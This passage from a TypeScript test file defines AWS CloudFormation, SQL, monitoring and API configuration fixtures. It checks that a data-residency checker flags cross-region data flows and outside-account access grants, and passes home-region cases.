          Type: "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>",
          Default: "/aws/service/ami-amazon-linux-latest/x",
        },
      },
    },
  ),
  secretdb: cfn(
    "AWS::RDS::DBInstance",
    {
      DBInstanceIdentifier: "d",
      Engine: "postgres",
      MasterUserPassword: "{{resolve:secretsmanager:x:SecretString:password}}",
      MasterUsername: { Ref: "User" },
      AllocatedStorage: "20",
    },
    {},
    { Parameters: { User: { Type: "String" } } },
  ),
  tableOfAStack: cfn("AWS::DynamoDB::Table", {
    TableName: "t",
    KeySchema: [{ AttributeName: "region", KeyType: "HASH" }],
    AttributeDefinitions: [{ AttributeName: "region", AttributeType: "S" }],
    BillingMode: "PAY_PER_REQUEST",
    StreamSpecification: { StreamViewType: "NEW_IMAGE" },
  }),
  glob: cfn("AWS::DynamoDB::GlobalTable", { Replicas: [{ Region: { Ref: "AWS::Region" } }], KeySchema: [] }),
  sns: cfn(
    "AWS::SNS::Subscription",
    { Protocol: "sqs", TopicArn: { Ref: "T" }, Endpoint: { "Fn::GetAtt": ["Q", "Arn"] } },
    { T: { Type: "AWS::SNS::Topic" }, Q: { Type: "AWS::SQS::Queue", Properties: { QueueName: "us-east-1-q" } } },
  ),
  rule: cfn(
    "AWS::Events::Rule",
    {
      EventPattern: { source: ["aws.s3"], region: ["us-east-1"] },
      Targets: [{ Id: "x", Arn: { "Fn::GetAtt": ["Q", "Arn"] }, Input: '{"region":"us-east-1"}' }],
    },
    { Q: { Type: "AWS::SQS::Queue" } },
  ),
  logs: cfn("AWS::Logs::LogGroup", { LogGroupName: "/x/us-east-1", RetentionInDays: 7 }),
  alarm: cfn(
    "AWS::CloudWatch::Alarm",
    {
      AlarmName: "us-east-1 alarm",
      AlarmActions: [{ Ref: "T" }],
      MetricName: "x",
      Namespace: "AWS/S3",
      Dimensions: [{ Name: "Region", Value: "us-east-1" }],
      ComparisonOperator: "GreaterThanThreshold",
    },
    { T: { Type: "AWS::SNS::Topic" } },
  ),
  containers: cfn(
    "AWS::ECS::TaskDefinition",
    {
      Family: "f",
      ContainerDefinitions: [
        {
          Name: "x",
          Image: "public.ecr.aws/x/y:1",
          LogConfiguration: {
            LogDriver: "awslogs",
            Options: {
              "awslogs-group": { Ref: "L" },
              "awslogs-region": { Ref: "AWS::Region" },
              "awslogs-stream-prefix": "x",
            },
          },
        },
      ],
      ExecutionRoleArn: { "Fn::GetAtt": ["R", "Arn"] },
    },
    { L: { Type: "AWS::Logs::LogGroup" }, R: { Type: "AWS::IAM::Role" } },
  ),
  alb: cfn(
    "AWS::ElasticLoadBalancingV2::Listener",
    {
      LoadBalancerArn: { Ref: "L" },
      Port: 443,
      Protocol: "HTTPS",
      DefaultActions: [{ Type: "forward", TargetGroupArn: { Ref: "T" } }],
    },
    {
      L: {
        Type: "AWS::ElasticLoadBalancingV2::LoadBalancer",
        Properties: { Type: "application", Subnets: ["subnet-1", "subnet-2"] },
      },
      T: {
        Type: "AWS::ElasticLoadBalancingV2::TargetGroup",
        Properties: { Port: 80, Protocol: "HTTP", VpcId: { Ref: "V" } },
      },
      V: { Type: "AWS::EC2::VPC" },
    },
  ),
  albredirect: cfn(
    "AWS::ElasticLoadBalancingV2::Listener",
    {
      LoadBalancerArn: { Ref: "L" },
      Port: 80,
      Protocol: "HTTP",
      DefaultActions: [
        { Type: "redirect", RedirectConfig: { Protocol: "HTTPS", Port: "443", StatusCode: "HTTP_301" } },
      ],
    },
    { L: { Type: "AWS::ElasticLoadBalancingV2::LoadBalancer" } },
  ),
  apigw: cfn(
    "AWS::ApiGateway::Method",
    {
      HttpMethod: "POST",
      ResourceId: { Ref: "R" },
      RestApiId: { Ref: "A" },
      Integration: {
        Type: "AWS_PROXY",
        IntegrationHttpMethod: "POST",
        Uri: { "Fn::Sub": "arn:aws:apigateway:${AWS::Region}:lambda:path/2015-03-31/functions/${F.Arn}/invocations" },
      },
    },
    {
      A: { Type: "AWS::ApiGateway::RestApi", Properties: { EndpointConfiguration: { Types: ["REGIONAL"] } } },
      R: { Type: "AWS::ApiGateway::Resource" },
      F: { Type: "AWS::Lambda::Function" },
    },
  ),
  kms: cfn("AWS::KMS::Key", {
    KeyPolicy: {
      Statement: [
        {
          Effect: "Allow",
          Principal: { AWS: { "Fn::Sub": "arn:aws:iam::${AWS::AccountId}:root" } },
          Action: "kms:*",
          Resource: "*",
        },
      ],
    },
  }),
  conf: cfn("AWS::Config::ConfigRule", {
    Source: { Owner: "AWS", SourceIdentifier: "S3_BUCKET_VERSIONING_ENABLED" },
    InputParameters: { region: "us-east-1" },
  }),
  waf: cfn("AWS::WAFv2::WebACL", {
    Scope: "REGIONAL",
    DefaultAction: { Allow: {} },
    Rules: [
      {
        Name: "geo",
        Priority: 1,
        Statement: { GeoMatchStatement: { CountryCodes: ["US", "CN"] } },
        Action: { Block: {} },
      },
    ],
  }),
  sfnincfn: cfn(
    "AWS::StepFunctions::StateMachine",
    {
      DefinitionString: {
        "Fn::Sub": JSON.stringify({ StartAt: "A", States: { A: { Type: "Task", Resource: "${F.Arn}", End: true } } }),
      },
      RoleArn: { "Fn::GetAtt": ["R", "Arn"] },
    },
    { F: { Type: "AWS::Lambda::Function" }, R: { Type: "AWS::IAM::Role" } },
  ),
  yaml: cfny(
    "AWSTemplateFormatVersion: '2010-09-09'\nDescription: not us-east-1\nParameters:\n  Env:\n    Type: String\n    Default: prod\n    AllowedValues: [prod, dev]\nMappings:\n  M:\n    us-east-1:\n      Ami: ami-1\n    eu-west-1:\n      Ami: ami-2\nConditions:\n  IsProd: !Equals [!Ref Env, prod]\nResources:\n  Q:\n    Type: AWS::SQS::Queue\n    Condition: IsProd\n    Properties:\n      QueueName: !Sub '${Env}-q'\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      ImageId: !FindInMap [M, !Ref 'AWS::Region', Ami]\nOutputs:\n  X:\n    Value: !GetAtt Q.Arn\n    Export: {Name: x}\n",
  ),
  redshift: cfn(
    "AWS::Redshift::Cluster",
    {
      ClusterType: "single-node",
      DBName: "d",
      MasterUsername: "u",
      NodeType: "ra3.xlplus",
      LoggingProperties: { BucketName: { Ref: "B" } },
    },
    { B: { Type: "AWS::S3::Bucket" } },
  ),
  q1: sql("CREATE TABLE users (region varchar, id int)"),
  q2: sql("SELECT * FROM users WHERE region = 'us-east-1'"),
  q3: sql("GRANT SELECT ON ALL TABLES IN SCHEMA public TO GROUP x"),
  q4: sql("COPY users FROM 's3://home-clinic/x' IAM_ROLE default"),
  q5: sql(
    "UNLOAD ('select * from users where r=''us-east-1''') TO 's3://home-clinic/x' IAM_ROLE 'arn:aws:iam::111122223333:role/r' REGION 'eu-west-1'",
  ),
  q6: sql("INSERT INTO t (region, url) VALUES ('us-east-1', 'https://example.com; unload it')"),
  q7: sql("GRANT USAGE ON DATASHARE s TO ACCOUNT '444455556666'"),
  q8: sql("CREATE DATASHARE s"),
  q9: sql("-- UNLOAD later to s3://us-archive\ncreate schema if not exists x; create user u password disable;"),
  q10: sql("create external schema s from data catalog database 'd' iam_role default"),
  q11: sql("ALTER TABLE t ADD COLUMN c int"),
  q12: sql("CREATE EXTERNAL TABLE s.t (a int) STORED AS PARQUET LOCATION 's3://home-clinic/t/'"),
  q13: sql("CREATE OR REPLACE PROCEDURE p() AS $$ BEGIN INSERT INTO t VALUES (1); END; $$ LANGUAGE plpgsql"),
  am1: am(
    "alertmanager_config: |\n  route:\n    receiver: d\n  receivers:\n    - name: d\n      sns_configs:\n        - topic_arn: arn:aws:sns:eu-west-1:111122223333:t\n          sigv4:\n            region: eu-west-1\n          attributes:\n            key: us-east-1\n",
  ),
  am2: am(
    "template_files:\n  default_template: |\n    {{ define \"sns.default.subject\" }}[{{ .Status | toUpper }}{{ if eq .Status \"firing\" }}:{{ .Alerts.Firing | len }}{{ end }}]{{ end }}\n    {{ define \"x\" }}see https://runbooks.example.com{{ end }}\nalertmanager_config: |\n  global:\n  templates:\n    - 'default_template'\n  route:\n    receiver: 'sns'\n  receivers:\n    - name: 'sns'\n      sns_configs:\n        - subject: 'x'\n          sigv4:\n            region: eu-west-1\n          topic_arn: 'arn:aws:sns:eu-west-1:111122223333:t'\n",
  ),
  rules: {
    t: "aws_prometheus_rule_group_namespace",
    v: {
      name: "r",
      workspace_id: "ws-1",
      data: "groups:\n  - name: test\n    rules:\n      - alert: X\n        expr: up{region=\"us-east-1\"} == 0\n        annotations:\n          runbook_url: https://runbooks.example.com/x\n          summary: 'in us-east-1'\n",
    },
  },
  api1: api(
    "openapi: 3.0.1\ninfo:\n  title: x\n  description: |\n    see: [broken\n  contact:\n    url: https://example.com\nservers:\n  - url: https://api.example.com\npaths:\n  /x:\n    get:\n      description: 'https://example.com'\n      parameters:\n        - name: region\n          in: query\n          schema: {type: string, enum: [us-east-1]}\n      x-amazon-apigateway-integration:\n        type: aws_proxy\n        httpMethod: POST\n        uri: arn:aws:apigateway:eu-west-1:lambda:path/2015-03-31/functions/arn:aws:lambda:eu-west-1:111122223333:function:f/invocations\n",
  ),
  api2: api(
    "{openapi: 3.0.1, info: {title: x, version: '1'}, paths: {/x: {get: {x-amazon-apigateway-integration: {type: mock}}}}}",
  ),
  glue1: glue({ JDBC_CONNECTION_URL: "jdbc:postgresql://db.c.eu-west-1.rds.amazonaws.com:5432/x", USERNAME: "a" }),
  msk1: msk({
    "connector.class": "io.confluent.connect.s3.S3SinkConnector",
    "s3.region": "eu-west-1",
    "s3.bucket.name": "home-clinic",
    topics: "a",
  }),
  osis1: osis(
    "version: '2'\nlog-pipeline:\n  source:\n    http:\n      path: /${pipelineName}/x\n  processor:\n    - grok:\n        match:\n          log: ['%{COMMONAPACHELOG}']\n  sink:\n    - opensearch:\n        hosts: ['https://search-x.eu-west-1.es.amazonaws.com']\n        index: logs\n        aws:\n          region: eu-west-1\n          sts_role_arn: arn:aws:iam::111122223333:role/r\n",
  ),
  dash1: dash({ widgets: [{ type: "metric", properties: { region: "us-east-1", metrics: [["AWS/S3", "x"]] } }] }),
  ecs1: ecs([
    {
      name: "x",
      image: "nginx",
      environment: [{ name: "REGION", value: "us-east-1" }],
      command: ["sh", "-c", "curl https://example.com"],
      healthCheck: { command: ["CMD-SHELL", "curl -f http://localhost/ || exit 1"] },
      logConfiguration: { logDriver: "awslogs", options: { "awslogs-region": "eu-west-1", "awslogs-group": "g" } },
    },
  ]),
  cc1: cc("AWS::Logs::LogGroup", { LogGroupName: "us-east-1" }),
  cc2: cc("AWS::S3::Bucket", { BucketName: "x-us-east-1" }),
  role1: task("lambda:invoke", { FunctionName: "f" }, { Credentials: { RoleArn: "arn:aws:iam::444455556666:role/r" } }),
  model1: task("bedrock:invokeModel", { ModelId: "anthropic.claude-3-sonnet-20240229-v1:0", Body: { x: "us.a.b" } }),
  list1: task("aws-sdk:cloudfront:listDistributions", {}),
  domain1: cfn("AWS::ApiGateway::DomainName", {
    RegionalCertificateArn: "arn:aws:acm:eu-west-1:111122223333:certificate/c",
    EndpointConfiguration: { Types: ["REGIONAL"] },
  }),
  security1: api(
    JSON.stringify({
      openapi: "3.0.1",
      paths: {},
      components: {
        securitySchemes: {
          key: { type: "apiKey", name: "x-api-key", in: "header" },
          login: {
            type: "oauth2",
            flows: { implicit: { authorizationUrl: "https://id.example.com/authorize", scopes: {} } },
            "x-amazon-apigateway-authorizer": {
              jwtConfiguration: { issuer: "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_AbCdEfGhI" },
            },
          },
        },
      },
    }),
  ),
  settings1: dms("bucketName=home-clinic;compressionType=GZIP"),
  settings2: dms("initstmt=SET FOREIGN_KEY_CHECKS=0"),
};

/** What Terraform is not to fill in has two dollars in its files. */
function escaped(value: unknown): unknown {
  if (typeof value === "string") return value.replace(/(?<!\$)\$\{/g, "$$$${").replace(/(?<!%)%\{/g, "%%{");
  if (Array.isArray(value)) return value.map(escaped);
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, escaped(item)]));
}

/** What is said against a resource: flows that are not approved, and accesses. */
function said({ t, v }: Case): readonly string[] {
  const located = under(synth({ aws_s3_bucket: { home: { bucket: "home-clinic" } }, [t]: { it: escaped(v) } }));
  const it = find(located, `${t}.it`);
  return [
    ...located
      .flowsOf(it)
      // Hosts in programs are advice of a policy of their own.
      .filter(({ kind, far }) => kind !== "program" && (!far || !located.jurisdiction.approves(far)))
      .map(({ kind, path, far }) => `${kind} ${path} -> ${far?.id ?? "?"}`),
    ...located.accessOf(it).map(({ is, path, principal }) => `${is} ${path} = ${principal}`),
  ];
}

test.each(Object.entries(abroad))("%s is said", (_, it) => {
  expect(said(it)).not.toEqual([]);
});

test.each(Object.entries(home))("%s is no finding", (_, it) => {
  expect(said(it)).toEqual([]);
});

test("all that is said of what leads abroad, in one table", () => {
  expect(Object.fromEntries(Object.entries(abroad).map(([name, it]) => [name, said(it)]))).toMatchSnapshot();
});
